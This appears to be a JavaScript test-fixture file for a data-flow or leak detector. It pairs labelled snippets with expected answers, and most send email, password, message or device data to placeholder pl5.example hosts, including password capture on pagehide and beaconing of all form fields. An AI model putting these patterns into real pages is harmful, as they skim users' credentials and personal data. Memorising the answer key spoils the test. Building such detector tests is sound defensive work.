//# tagged-template-url
// flow: search > ttu.pl5.example via fetch
const url1 = (parts, ...vals) => parts.reduce((s, p, i) => s + p + (i < vals.length ? encodeURIComponent(vals[i]) : ''), '');
fetch(url1`https://ttu.pl5.example/find?q=${document.querySelector('input[type=search]').value}&n=10`);

//# tagged-template-drops-values
// no flow
// why: the tag joins the fixed parts only
const fixed2 = (parts) => parts.join('x');
fetch(fixed2`https://ttd0.pl5.example/find?q=${document.querySelector('input[type=search]').value}&n=10`);

//# curried-sender
// flow: email > cur.pl5.example via fetch
const send3 = (method) => (host) => (path) => (body) => fetch(`https://${host}${path}`, { method, body });
const post3 = send3('POST')('cur.pl5.example');
post3('/lead')(document.querySelector('input[type=email]').value);

//# curried-tap-constant
// no flow
// why: the last stage answers a constant whatever it gets
const tap4 = (f) => (x) => { f(x); return x; };
const only4 = () => () => 'ok';
const v4 = only4()(document.querySelector('input[type=email]').value);
tap4((x) => fetch('https://tap0.pl5.example/?s=' + x))(v4);

//# pipe-of-functions
// flow: phone > pip.pl5.example via fetch
const pipe5 = (...fns) => (x) => fns.reduce((v, f) => f(v), x);
const digits5 = (s) => s.replace(/\D/g, '');
const wrap5 = (tel) => ({ tel });
pipe5(digits5, wrap5, JSON.stringify, (body) => fetch('https://pip.pl5.example/', { method: 'POST', body }))(document.querySelector('input[type=tel]').value);

//# debounce-with-latest-args
// flow: search > dla.pl5.example via fetch
function debounce6(fn, wait) {
  var timer, args, ctx;
  function later() { timer = null; fn.apply(ctx, args); args = ctx = null; }
  return function () { args = arguments; ctx = this; if (timer) clearTimeout(timer); timer = setTimeout(later, wait); };
}
document.querySelector('input[type=search]').addEventListener('input', debounce6(function (e) { fetch('https://dla.pl5.example/?q=' + e.target.value); }, 300));

//# throttle-drops-arguments
// no flow
// why: the wrapper calls without arguments and the sender has a default
function throttle7(fn, ms) { let t = 0; return () => { const n = Date.now(); if (n - t > ms) { t = n; fn(); } }; }
const ping7 = throttle7((v = 'tick') => fetch('https://thr0.pl5.example/?v=' + v), 1000);
document.querySelector('input[type=search]').addEventListener('input', (e) => ping7(e.target.value));

//# generator-batches
// flow: device > gnb.pl5.example via fetch
function* traits8() { yield ['ua', navigator.userAgent]; yield ['w', screen.width]; }
const q8 = new URLSearchParams();
for (const [k, v] of traits8()) q8.append(k, v);
fetch('https://gnb.pl5.example/?' + q8.toString());

//# generator-first-only
// flow: email > gfo.pl5.example via fetch
// why: near miss: only the first value is taken; the password is yielded after it
function* fields9() { yield document.querySelector('input[type=email]').value; yield document.querySelector('input[type=password]').value; }
const [first9] = fields9();
fetch('https://gfo.pl5.example/', { method: 'POST', body: first9 });

//# async-iterator-object
// flow: message > aio.pl5.example via fetch
const stream10 = { async *[Symbol.asyncIterator]() { yield document.querySelector('textarea[name=message]').value; } };
(async () => { for await (const chunk of stream10) await fetch('https://aio.pl5.example/', { method: 'POST', body: chunk }); })();

//# generator-delegated
// flow: username > gdl.pl5.example via fetch
function* inner11() { yield document.querySelector('input[name=username]').value; }
function* outer11() { yield 'v1'; yield* inner11(); }
fetch('https://gdl.pl5.example/', { method: 'POST', body: JSON.stringify([...outer11()]) });

//# optional-chaining-call
// flow: email > opt.pl5.example via fetch
const cfg12 = { hooks: { send: (d) => fetch('https://opt.pl5.example/', { method: 'POST', body: d }) } };
cfg12?.hooks?.send?.(document.querySelector('input[type=email]')?.value ?? '');

//# optional-chaining-missing
// no flow
// why: the object has no such hook, so nothing is called
const cfg13 = { hooks: {} };
const send13 = (d) => fetch('https://opt0.pl5.example/', { method: 'POST', body: d });
cfg13.hooks?.send?.(document.querySelector('input[type=email]').value);

//# flat-map-group
// flow: input > fmg.pl5.example via beacon
const pairs14 = [...document.forms].flatMap((f) => [...f.elements].map((el) => `${el.name}:${el.value}`));
navigator.sendBeacon('https://fmg.pl5.example/', pairs14.join('\n'));

//# weak-map-store
// flow: password > wms.pl5.example via fetch
const seen15 = new WeakMap();
const field15 = document.querySelector('input[type=password]');
field15.addEventListener('change', () => seen15.set(field15, { last: field15.value }));
addEventListener('pagehide', () => fetch('https://wms.pl5.example/', { method: 'POST', keepalive: true, body: seen15.get(field15).last }));

//# weak-map-presence
// no flow
// why: only whether the field is known is sent
const seen16 = new WeakMap();
const field16 = document.querySelector('input[type=password]');
seen16.set(field16, field16.value);
fetch('https://wmp0.pl5.example/?k=' + seen16.has(field16));

//# proxy-get-trap
// flow: identifier > pgt.pl5.example via fetch
const store17 = new Proxy({}, { get: (t, key) => localStorage.getItem('app:' + String(key)) });
fetch('https://pgt.pl5.example/?u=' + store17.uid);

//# proxy-get-masks
// no flow
// why: the trap answers a mask for each key
const masked18 = new Proxy({ email: document.querySelector('input[type=email]').value }, { get: () => '***' });
fetch('https://pgm0.pl5.example/?e=' + masked18.email);

//# proxy-set-reports
// flow: message > psr.pl5.example via beacon
const draft19 = new Proxy({}, { set(t, k, v) { t[k] = v; navigator.sendBeacon('https://psr.pl5.example/', v); return true; } });
document.querySelector('textarea[name=message]').addEventListener('input', (e) => { draft19.body = e.target.value; });

//# array-destructured-swap
// flow: email > ads.pl5.example via fetch
// why: near miss: after the swap the second variable holds the mail, the first the constant
let a20 = document.querySelector('input[type=email]').value, b20 = 'none';
[a20, b20] = [b20, a20];
fetch('https://ads0.pl5.example/?a=' + a20);
fetch('https://ads.pl5.example/?b=' + b20);

//# group-then-flush-queue
// flow: interaction > gfq.pl5.example via beacon
const queue21 = [];
document.addEventListener('click', (e) => { queue21.push({ t: 'click', x: e.pageX, y: e.pageY }); });
document.addEventListener('visibilitychange', () => {
  if (document.visibilityState !== 'hidden' || !queue21.length) return;
  navigator.sendBeacon('https://gfq.pl5.example/', JSON.stringify(queue21.splice(0)));
});

//# storage-queue-later
// flow: email > stq.pl5.example via fetch
function enqueue22(ev) { const q = JSON.parse(localStorage.getItem('q22') || '[]'); q.push(ev); localStorage.setItem('q22', JSON.stringify(q)); }
document.querySelector('input[type=email]').addEventListener('change', (e) => enqueue22({ mail: e.target.value }));
window.addEventListener('online', () => {
  const items = JSON.parse(localStorage.getItem('q22') || '[]');
  items.forEach((it) => fetch('https://stq.pl5.example/', { method: 'POST', body: JSON.stringify({ m: it.mail }) }));
  localStorage.removeItem('q22');
});

//# storage-other-key
// no flow
// why: the key that is read holds the theme; the draft is under another key
sessionStorage.setItem('draft23', document.querySelector('textarea[name=message]').value);
sessionStorage.setItem('theme23', 'dark');
fetch('https://sto0.pl5.example/?t=' + sessionStorage.getItem('theme23'));
